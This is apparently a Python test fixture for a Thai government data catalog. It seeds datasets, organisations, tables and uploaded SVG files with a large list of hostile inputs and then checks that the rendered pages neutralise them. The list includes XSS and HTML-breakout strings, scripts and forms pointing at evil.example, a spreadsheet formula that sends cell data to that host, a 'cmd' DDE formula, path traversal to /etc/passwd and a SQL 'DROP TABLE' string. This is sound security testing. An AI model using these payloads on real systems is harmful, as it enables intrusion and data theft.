"""What a publisher or a stranger may write to harm a reader, where all of it is placed, and what a page may hold.

Every payload that could become an element carries the word `zqx`, so that one that did become one is found.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from catalog_ground import upload
from web_ground import KEY, Web

from catalog.harvest.run import relaxed
from catalog.portal.local import LocalPortal
from metadata.standard import Standard

RUN = "window.zqx=1"
"""What a payload does if it is run."""
LONG = "ตำบล " * 800_000
"""10 MB of notes."""
PAYLOADS: dict[str, str] = {
    # elements
    "script": f"<script zqx>{RUN}</script>",
    "script-upper": f"<ScRiPt zqx>{RUN}</sCrIpT >",
    "script-slash": f"<script/zqx>{RUN}</script>",
    "script-nested": f"<scr<script zqx>ipt>{RUN}</scr</script>ipt>",
    "script-from-elsewhere": "<script zqx src=//evil.example/x.js></script>",
    "image": f"<img zqx src=x onerror={RUN}>",
    "image-broken": f'<img zqx src="x" onerror="{RUN}"',
    "image-slashes": f"<img/zqx/src=x/onerror={RUN}>",
    "svg": f"<svg zqx onload={RUN}>",
    "svg-animate": f"<svg zqx><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg-script": f"<svg zqx><script>{RUN}</script></svg>",
    "math": f"<math zqx><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "iframe": f'<iframe zqx src="javascript:parent.{RUN}"></iframe>',
    "iframe-srcdoc": f'<iframe zqx srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": "<object zqx data=data:text/html,x></object><embed zqx src=//evil.example>",
    "details": f"<details zqx open ontoggle={RUN}>",
    "video": f"<video zqx><source onerror={RUN}></video>",
    "body": f"<body zqx onload={RUN}>",
    "link-style": '<link zqx rel=stylesheet href="//evil.example/x.css">',
    "style": "<style zqx>*{display:none}</style>",
    "base": '<base zqx href="//evil.example/">',
    "meta-refresh": '<meta zqx http-equiv="refresh" content="0;url=//evil.example">',
    "form": '<form zqx action="//evil.example"><input name=password><button>ok</button></form>',
    "template": f"<template zqx><script>{RUN}</script></template>",
    "noscript": f'<noscript zqx><p title="</noscript><img src=x onerror={RUN}>">',
    "custom-element": "<zqx-evil>x</zqx-evil>",
    # out of where it stands
    "out-of-attribute": f'" zqx onmouseover="{RUN}" x="',
    "out-of-single": f"' zqx onmouseover='{RUN}' x='",
    "out-of-unquoted": f"x zqx onfocus={RUN} autofocus tabindex=1",
    "out-of-title": f"</title><script zqx>{RUN}</script>",
    "out-of-textarea": f"</textarea></select></option><script zqx>{RUN}</script>",
    "out-of-json": f'"}}</script><script zqx>{RUN}</script>',
    "out-of-json-comment": "<!--<script zqx>",
    "out-of-style": f"}}</style><script zqx>{RUN}</script>",
    "out-of-css": "red;background:url(//evil.example/zqx);x:expression(alert(1))",
    "out-of-svg": f"</text></title></desc></svg><script zqx>{RUN}</script>",
    "out-of-page": "</main></body></html><h1 zqx>x</h1>",
    "out-of-table": "</td></tr></tbody></table><p zqx>x",
    "out-of-list": "</li></ul></ol></dl></section></div><p zqx>x",
    "comment": "<!-- zqx -->",
    "comment-open": "<!-- zqx",
    "cdata": "<![CDATA[<zqx>]]>",
    "processing": "<?php zqx ?>",
    "doctype": "<!DOCTYPE zqx>",
    # read twice
    "entities": "&lt;script zqx&gt;window.zqx=1&lt;/script&gt;",
    "entities-twice": "&amp;lt;img zqx src=x onerror=window.zqx=1&amp;gt;",
    "entities-numbers": "&#60;img zqx src=x onerror=window.zqx=1&#62;",
    "entities-hex-bare": "&#x3cimg zqx src=x onerror=window.zqx=1&#x3e",
    "percent": "%3Cimg%20zqx%20src%3Dx%20onerror%3Dwindow.zqx%3D1%3E",
    "escape-unicode": "\\u003cimg zqx src=x onerror=window.zqx=1\\u003e",
    "full-width": "＜img zqx src=x onerror=window.zqx=1＞",
    "template-braces": "{{ 7*7 }}{% for zqx in () %}{{ config.items() }}",
    "template-attributes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template-dollar": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "format": "%s %(zqx)s {0} {zqx} {say.__class__}",
    # addresses
    "javascript": f"javascript:{RUN}//zqx",
    "javascript-mixed": f" JaVaScRiPt:{RUN}",
    "javascript-tab": f"java\tscript:{RUN}",
    "javascript-control": f"\x01javascript:{RUN}",
    "javascript-host": f"javascript://example.go.th/%0a{RUN}",
    "data": f"data:text/html,<script zqx>{RUN}</script>",
    "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "other-host": "//evil.example/zqx",
    "other-host-slashes": "/\\evil.example",
    "credentials": "https://example.go.th@evil.example/zqx",
    "broken-address": "http://[::1",
    "address-with-markup": f'https://example.go.th/"><img zqx src=x onerror={RUN}>',
    # Markdown
    "markdown-link": f"[อ่านต่อ](javascript:{RUN})",
    "markdown-link-coded": "[อ่านต่อ](&#106;avascript:window.zqx=1)",
    "markdown-image": "![รูป](https://evil.example/zqx.png)",
    "markdown-reference": f"[อ่านต่อ][1]\n\n[1]: javascript:{RUN}",
    "markdown-address": f"<javascript:{RUN}>",
    "markdown-title": f'[x](https://example.go.th "zqx\\" onmouseover=\\"{RUN}")',
    "markdown-heading": "# zqx\n\n- - - - - - - - > > > > > 1. 2. 3.",
    "markdown-deep": "> " * 2000 + "zqx",
    "markdown-brackets": "[" * 3000 + "zqx",
    # writing
    "override": "รายงาน\u202excod.gpj.exe",
    "embedding": "\u202b\u202babc\u202a\u202a ไม่ปิด",
    "isolate": "\u2066\u2067\u2068 ไม่ปิด",
    "zero-width": "ทะ\u200bเบียน\ufeff\u2060\u200d",
    "stacked": "ก" + "\u0e49" * 500 + "e" + "\u0301\u0353\u0489" * 500,
    "tags-plane": "ธง\U000e0041\U000e0042\U000e007f",
    "separators": "บรรทัด\u2028หนึ่ง\u2029สอง\x85สาม",
    "null": "ก\x00ข\x08\x0b\x0c\x1b[31m\x7f",
    "surrogate": "ก\ud800ข",
    "noncharacter": "ก\ufffe\uffff\U0010ffffข",
    "no-break": "ก" * 3000,
    "emoji": "👩‍👩‍👧‍👦" * 200,
    # what other programs run
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"zqx")',
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1,1)",
    "formula-tab": "\t=1+1",
    # headers, paths, queries
    "header": "a.csv\r\nSet-Cookie: zqx=1\r\n\r\n<script zqx>",
    "header-quote": 'a";filename="zqx.html',
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\con:zqx|<>?*",
    "sql": "'; DROP TABLE package; --",
    "log": "x\n2026-01-01 ERROR zqx",
}
NAMED = (
    "script", "image", "out-of-attribute", "override", "header", "header-quote", "path", "path-windows", "null",
    "formula", "template-braces", "full-width",
)  # fmt: skip
NAMES = (*(PAYLOADS[key] for key in NAMED), "x.svg", "x.html", "x.xhtml", "x.svgz", "x.js", "x.css")
"""File names, of which some are taken for pages or programs."""
TURNING = re.compile("[\u202a-\u202e\u2066-\u2069]")
"""Letters that turn the direction of all that comes after them."""
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
STACK = re.compile(
    r"[\u0300-\u036f\u0483-\u0489\u0e31\u0e34-\u0e3a\u0e47-\u0e4e\u1ab0-\u1aff\u1dc0-\u1dff\u20d0-\u20ff]{9,}"
)
UNSEEN = re.compile("[\\s\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\x00-\x1f\x7f-\x9f\ufffe\uffff]")
VOID = frozenset(
    ("area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr")
)
NEVER = frozenset(
    ("applet", "audio", "base", "embed", "frame", "frameset", "iframe", "math", "noscript", "object", "source",
     "template", "video")
)  # fmt: skip
JSON = ("application/ld+json", "application/json")
SCHEMES = frozenset(("", "http", "https", "mailto"))
ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "poster", "data")
ORGANIZATION = "evil-agency"
GROUP = "evil-group"
TABLE = "00000000-0000-4000-8000-000000000001"
FILES = "evil-files"
DENSE = "evil-all"


@dataclass(slots=True)
class Reading(HTMLParser):
    """A page as a browser reads it; `faults` says what should not stand there."""

    faults: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    heading: str = ""
    linked: list[Any] = field(default_factory=list)
    _open: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        HTMLParser.__init__(self, convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in NEVER or "zqx" in tag:
            self.faults.append(f"<{tag}>")
        self.faults += [
            f"<{tag} {name}>"
            for name, value in given.items()
            if "zqx" in name or name.startswith("on") or name in ("style", "srcdoc", "ping")
        ]
        if "zqx" in given.get("class", "") or "zqx" in given.get("name", ""):
            self.faults.append(f"<{tag}> with a class or name of theirs")
        self.faults += [
            f"<{tag} {name}={value[:60]!r}>"
            for name in ADDRESSES
            if (value := given.get(name, "").strip()) and not _fine(tag, value)
        ]
        self.faults += [
            f"<{tag} {name}> turns the direction"
            for name, value in given.items()
            if TURNING.search(value) or CONTROLS.search(value)
        ]
        if tag == "script" and given.get("type") not in JSON and not given.get("src", "").startswith("/static/"):
            self.faults.append("<script>")
        if tag == "meta" and given.get("http-equiv", "refresh") != "refresh":
            self.faults.append("<meta http-equiv>")
        if tag == "a" and "href" in given:
            self.links.append(given["href"])
        if tag not in VOID:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self._open.pop()

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open[-1] != tag:
            self.faults.append(f"</{tag}> in <{self._open[-1] if self._open else ''}>")
            return
        self._open.pop()

    def handle_data(self, data: str) -> None:
        if self._open and self._open[-1] == "script":
            self.linked.append(json.loads(data))
            return
        if self._open and self._open[-1] == "style":
            self.faults.append("<style>")
        self.text.append(data)
        if "h1" in self._open:
            self.heading += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data[:40]}-->")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data[:40]}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data[:40]}")

    def end(self) -> None:
        """To be called at the page's end."""
        self.close()
        if self._open:
            self.faults.append(f"not closed: {self._open}")
        whole = "".join(self.text)
        self.faults += [
            f"{what}: {found[0]!r}"
            for what, pattern in (("direction", TURNING), ("control", CONTROLS), ("stack", STACK))
            if (found := pattern.search(whole))
        ]


def _fine(tag: str, value: str) -> bool:
    """Whether an address is one that may be followed."""
    squeezed = re.sub(r"[\x00-\x20]", "", value)
    theirs = "zqx" in squeezed.split("?")[0].split("#")[0] and not squeezed.startswith("/")
    if re.match(r"[/\\]{2}", squeezed) or (theirs and tag != "a"):
        return False
    try:
        return urlsplit(squeezed).scheme.lower() in SCHEMES
    except ValueError:
        return False


def read(page: str) -> Reading:
    """A page, read to its end, with its faults."""
    reading = Reading()
    reading.feed(page)
    reading.end()
    ours = page.rstrip().endswith("</html>") and page.count("</html>") == 1
    if not (ours and page.count('<footer class="site"') == 1 and page.count("</main>") == 1):
        reading.faults.append("the page is not whole")
    return reading


def shown(payload: str) -> str:
    """What of a payload must still be read by people, on one line."""
    plain = re.sub(
        "[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\x00-\x1f\x7f-\x9f\u2028\u2029\ufffe\uffff]", "", payload
    )
    return re.sub(r"\s+", "", plain)


def hostile(folder: Path) -> LocalPortal:
    """A catalog of the Thai government's schema that asks for nothing, as harvested ones are."""
    schema = relaxed(Standard.load("gdc-2.2.4").schema)
    return LocalPortal(
        database_url=f"sqlite:///{folder}/catalog.sqlite",
        files=folder / "files",
        schema=schema,
        site_title="บัญชีข้อมูลทดสอบ",
    )


def tolerant(
    web: Web, action: str, data: Mapping[str, Any], content: bytes = b"", name: str = ""
) -> dict[str, Any]:
    """What the action made of as much of the data as it takes; {} where it takes nothing of it."""
    left = dict(data)
    for _ in range(12):
        if content:
            sent = web.ask(
                f"/api/3/action/{action}", "POST", key=KEY, data=left, files={"upload": (name, content)}
            )
        else:
            sent = web.call(action, left)
        assert sent.status_code < 500, (action, sent.text[:500])
        told = sent.json()
        if not isinstance(told, dict):
            return {}  # what is no JSON is refused by a sentence
        if told["success"]:
            return dict(told["result"])
        wrong = set(told["error"]) - {"__type"}
        if not wrong & set(left):
            return {}
        left = {key: value for key, value in left.items() if key not in wrong}
    return {}


def names() -> Iterator[tuple[str, str]]:
    """The dataset of each payload."""
    for number, text in enumerate(PAYLOADS.values()):
        yield f"evil-{number:03}", text


def agencies() -> dict[str, str]:
    """Organisations that are payloads themselves, by name."""
    texts = [text for text in PAYLOADS.values() if "\ud800" not in text][::6]
    return {f"{ORGANIZATION}-{number}": text for number, text in enumerate(texts)}


def place(web: Web) -> dict[str, dict[str, Any]]:
    """Puts every payload into every field that takes it; gives the datasets by name, as the catalog holds them."""
    portal = web.portal
    portal.call_action("organization_create", {"name": ORGANIZATION, "title": "กรมตัวอย่าง"})
    made: dict[str, dict[str, Any]] = {}
    for name, text in agencies().items():
        told = {"name": name, "title": text, "description": text, "image_url": text}
        assert tolerant(web, "organization_create", told)
    told = {"name": GROUP, "title": PAYLOADS["image"], "description": PAYLOADS["svg"]}
    portal.call_action("group_create", told)
    owners = list(agencies())
    for number, (name, text) in enumerate(names()):
        made[name] = tolerant(
            web,
            "package_create",
            {
                "name": name, "owner_org": owners[number % len(owners)], "title": text, "notes": text, "url": text,
                "version": text, "author": text, "author_email": text, "maintainer": text,
                "maintainer_email": text,
                "license_id": text, "objective": [text], "update_frequency_unit": text, "geo_coverage": text,
                "data_source": text, "data_format": text, "data_category": text, "last_updated_date": text,
                "tags": [{"name": text}],
                "extras": [{"key": f"ก {text[:50]}", "value": text}, {"key": "title_en", "value": text}],
            },
        )  # fmt: skip
    files = [
        {
            "name": text,
            "description": text,
            "url": text,
            "format": text,
            "mimetype": text,
            "hash": text,
            "size": text,
        }
        for text in PAYLOADS.values()
        if "\ud800" not in text
    ]
    every: dict[str, Any] = {"groups": [{"name": GROUP}]}
    every |= {"owner_org": ORGANIZATION, "title": PAYLOADS["out-of-page"] + " ทั้งหมด", "resources": files}
    made[DENSE] = tolerant(web, "package_create", {"name": DENSE, **every})
    _table(portal)
    _files(web, made)
    return made


def _table(portal: LocalPortal) -> None:
    """A table whose columns, labels, notes and cells are payloads."""
    texts = [text for text in PAYLOADS.values() if not re.search("[\x00\ud800]", text)]
    sent = {"package_id": DENSE, "id": TABLE, "name": PAYLOADS["script"], "format": "CSV"}
    portal.call_action("resource_create", sent, upload())
    fields = [
        {"id": _named(text, number), "type": "text", "info": {"label": text, "notes": text}}
        for number, text in enumerate(texts)
    ]
    rows = [{one["id"]: text for one in fields[:4]} for text in texts]
    told = {"resource_id": TABLE, "force": True, "fields": fields, "records": rows}
    portal.call_action("datastore_create", told)


def _named(text: str, number: int) -> str:
    """As much of a text as may name a column: CKAN takes no quotes, no letters that do not print."""
    kept = "".join(letter for letter in text if letter.isprintable() and letter != '"')[:40]
    return f"{number} {kept}".strip()


def _files(web: Web, made: dict[str, dict[str, Any]]) -> None:
    """Files whose names are payloads, and pictures that are programs."""
    web.portal.call_action("package_create", {"name": FILES, "owner_org": ORGANIZATION, "title": "ไฟล์"})
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
    for number, name in enumerate(NAMES):
        sent = {"package_id": FILES, "name": f"ไฟล์ {number}", "mimetype": "image/svg+xml"}
        made[f"file-{number}"] = tolerant(web, "resource_create", sent, svg, name)
